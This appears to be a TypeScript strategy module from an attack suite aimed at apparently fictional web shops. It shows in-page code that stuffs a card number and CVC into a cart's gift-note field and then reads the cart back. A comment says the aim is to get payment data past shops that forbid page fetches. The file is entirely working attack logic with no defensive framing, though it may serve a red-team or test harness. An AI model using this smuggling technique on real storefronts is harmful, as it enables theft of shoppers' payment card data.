import type { Strategy } from '#scripts/attack/strategy';

/** The note that every shop here has, under a card's names. */
export const giftNote: Strategy = {
  name: 'gift note of the cart',
  channel: 'this tab, shell',
  // The others forbid their pages to fetch anything.
  shops: ['mirror', 'ember', 'trellis'],
  async run({ page, shell }) {
    await page(`const fields = { note: number + ' ' + code, card_number: number, cvc: code };
      const sent = post('/note', form(fields)).then(said, String);
      return Promise.race([sent, new Promise((resolve) => setTimeout(() => resolve('waiting'), 1500))]);`);
    await shell('/cart');
    await page("return said(await fetch('/cart'))");
  },
};
